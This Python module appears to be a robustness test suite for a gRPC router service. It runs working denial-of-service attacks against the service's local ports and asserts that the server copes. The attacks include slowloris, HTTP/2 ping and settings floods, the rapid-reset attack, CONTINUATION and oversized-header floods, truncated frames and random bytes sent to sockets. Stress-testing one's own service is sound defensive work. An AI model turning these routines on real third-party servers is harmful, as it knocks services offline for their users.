"""Attacks below gRPC: connections, HTTP/2 frames, lanes without a ticket, bytes that are nothing. None needs a token."""

from __future__ import annotations

import contextlib
import http.client
import random
import socket
import time
from pathlib import Path

from hostile.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST,
    SECONDS,
    SETTINGS,
    crowd,
    dial,
    drain,
    frame,
    headers,
    hung_up,
    opening,
    send,
)

EXECUTE = "/snakepit.v1.RouterService/Execute"
SCRAPED = ("metrics", "agent_metrics")
PORTS = ("grpc", "lane", *SCRAPED, "health", "agent")


class Sockets:
    """`target`: ports by name. `scale`: how much of everything."""

    def __init__(self, target: dict[str, object], scale: float, chance: random.Random) -> None:
        self.target = target
        self.chance = chance
        self._scale = scale

    def _count(self, number: int) -> int:
        return max(1, int(number * self._scale))

    def _port(self, name: str) -> int:
        port = self.target[name]
        assert isinstance(port, int)
        return port

    def connections_that_say_nothing(self) -> None:
        with crowd(self._port("grpc"), self._count(2000)):
            time.sleep(1)

    def connections_that_say_nothing_at_the_lane_port(self) -> None:
        with crowd(self._port("lane"), self._count(2000)) as made:
            assert hung_up(made[0]), "the oldest is hung up"

    def half_prefaces(self) -> None:
        with crowd(self._port("grpc"), self._count(1000), PREFACE[:11]):
            time.sleep(1)

    def slowloris(self) -> None:
        """A byte now and then, of what a client says first and of a scrape."""
        scrape = b"GET /metrics HTTP/1.1\r\nhost: x\r\nx: "
        with contextlib.ExitStack() as stack:
            slow = stack.enter_context(crowd(self._port("grpc"), self._count(500)))
            slower = [sock for port in SCRAPED for sock in stack.enter_context(crowd(self._port(port), self._count(100), scrape))]
            for byte in PREFACE[:12]:
                for sock in slow:
                    send(sock, bytes((byte,)))
                for sock in slower:
                    send(sock, b"a")
                time.sleep(0.1)

    def idle_connections_that_have_said_hello_to_http(self) -> None:
        with crowd(self._port("grpc"), self._count(1000), opening()):
            time.sleep(1)

    # ---- HTTP/2

    def _flood(self, part: bytes, count: int, port: str = "grpc") -> int:
        """Send it so often on one connection; how often it was taken."""
        sock = dial(self._port(port), opening())
        taken, many = 0, part * 100
        with sock:
            while taken < count and send(sock, many):
                taken += 100
                if not drain(sock):
                    break
        return taken

    def pings(self) -> None:
        self._flood(frame(PING, 0, 0, bytes(8)), self._count(100_000))

    def settings(self) -> None:
        self._flood(frame(SETTINGS, 0, 0), self._count(20_000))

    def empty_frames(self) -> None:
        """Of no stream, and of streams that never were."""
        self._flood(frame(DATA, 0, 1) + frame(0xFA, 0, 0) + frame(0xFA, 0, 77), self._count(20_000))

    def resets(self) -> None:
        """A stream is opened and taken back at once; the rapid reset."""
        block = headers(EXECUTE)
        for _ in range(self._count(4)):
            sock = dial(self._port("grpc"), opening())
            with sock:
                for first in range(1, 10_000, 200):
                    pairs = (frame(HEADERS, END_HEADERS, id_, block) + frame(RST, 0, id_, bytes(4)) for id_ in range(first, first + 200, 2))
                    if not send(sock, b"".join(pairs)) or not drain(sock):
                        break

    def continuations(self) -> None:
        """Headers without an end."""
        for _ in range(self._count(3)):
            sock = dial(self._port("grpc"), opening() + frame(HEADERS, 0, 1, headers(EXECUTE)))
            with sock:
                for _ in range(1000):
                    if not send(sock, frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x80\x7d" + b"x" * 16127)) or not drain(sock):
                        break

    def oversized_headers(self) -> None:
        for size in (20_000, 100_000, 1_000_000, 4_000_000):
            block = headers(EXECUTE, ("x-large", "x" * size))
            parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            sock = dial(self._port("grpc"), opening() + frame(HEADERS, 0, 1, parts[0]))
            with sock:
                for part in parts[1:-1]:
                    send(sock, frame(CONTINUATION, 0, 1, part))
                send(sock, frame(CONTINUATION, END_HEADERS, 1, parts[-1]) + frame(DATA, END_STREAM, 1, bytes(5)))
                time.sleep(0.1)
                drain(sock)

    def headers_by_the_ten_thousand(self) -> None:
        """Of a byte each, by somebody who never acknowledges how many may be."""
        block = headers(EXECUTE) + b"\x40\x01a\x01b" + b"\xbe" * self._count(50_000)
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        begun = frame(HEADERS, 0, 1, parts[0]) + b"".join(frame(CONTINUATION, 0, 1, part) for part in parts[1:-1])
        whole = begun + frame(CONTINUATION, END_HEADERS, 1, parts[-1]) + frame(DATA, END_STREAM, 1, bytes(5))
        for _ in range(self._count(5)):
            with dial(self._port("grpc"), opening() + whole) as sock:
                time.sleep(0.05)
                drain(sock)

    def truncated_frames(self) -> None:
        """What says how long it is, and is not; and the connection ends there."""
        whole = opening() + frame(HEADERS, END_HEADERS, 1, headers(EXECUTE)) + frame(DATA, END_STREAM, 1, bytes(5) + b"x" * 200)
        for _ in range(self._count(400)):
            with dial(self._port("grpc"), whole[: self.chance.randrange(len(whole))]):
                continue

    def many_streams_with_unfinished_messages(self) -> None:
        """Each says that it will be 4 MiB, and isn't."""
        head = b"\x00" + (4 << 20).to_bytes(4, "big")
        with contextlib.ExitStack() as stack:
            for _ in range(self._count(4)):
                sock = stack.enter_context(dial(self._port("grpc"), opening()))
                for id_ in range(1, 400, 2):
                    begun = frame(HEADERS, END_HEADERS, id_, headers(EXECUTE)) + frame(DATA, 0, id_, head + bytes(8000))
                    if not send(sock, begun) or not drain(sock):
                        break
            time.sleep(1)

    # ---- bytes

    def garbage_at_every_port(self) -> None:
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        for port in PORTS:
            for number in range(self._count(10 if port in SCRAPED else 120)):
                size = self.chance.choice([1, 15, 16, 17, 64, 1000, 5000])
                first = [b"", PREFACE, opening(), b"GET / HTTP/1.1\r\n\r\n", hello, b"\xff" * 16][number % 6]
                with contextlib.suppress(OSError), dial(self._port(port), first + self.chance.randbytes(size)) as sock:
                    drain(sock)

    def garbage_at_the_agents_socket(self) -> None:
        """Whoever may open it has the author's rights."""
        for path in sorted(Path(str(self.target["run"])).rglob("*")):
            for _ in range(self._count(20) if path.is_socket() else 0):
                with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as sock:
                    sock.settimeout(SECONDS)
                    sock.connect(str(path))
                    sock.send(self.chance.randbytes(self.chance.choice([1, 8, 200, 4000])))

    def floods_of_the_probes(self) -> None:
        """At both programs' ports for the kubelet."""
        check = frame(HEADERS, END_HEADERS, 1, headers("/grpc.health.v1.Health/Check")) + frame(DATA, END_STREAM, 1, bytes(5))
        for port in ("health", "agent"):
            with crowd(self._port(port), self._count(300), opening() + check):
                time.sleep(0.3)
            self._flood(frame(PING, 0, 0, bytes(8)), self._count(5_000), port)

    def scrapes(self) -> None:
        """By any verb, of any path, with headers of any length."""
        for number in range(self._count(60)):
            port = SCRAPED[number // 4 % len(SCRAPED)]
            connection = http.client.HTTPConnection("127.0.0.1", self._port(port), timeout=SECONDS)
            with contextlib.closing(connection), contextlib.suppress(OSError, http.client.HTTPException):
                verb = ("GET", "POST", "DELETE", "X" * 70_000)[number % 4]
                connection.request(verb, "/" + "a" * self.chance.choice([0, 10, 60_000, 70_000]), headers={"x": "y" * 60_000})
                connection.getresponse().read()

    def wrong_tickets(self) -> None:
        with contextlib.ExitStack() as stack:
            shown = []
            for number in range(self._count(500)):
                sock = stack.enter_context(dial(self._port("lane")))
                send(sock, self.chance.randbytes(16 if number % 3 else 9) + (bytes(200) if number % 2 else b""))
                shown.append((sock, number % 3))
            for sock, whole in shown[-60:]:
                assert hung_up(sock), f"a ticket of {16 if whole else 9} bytes"
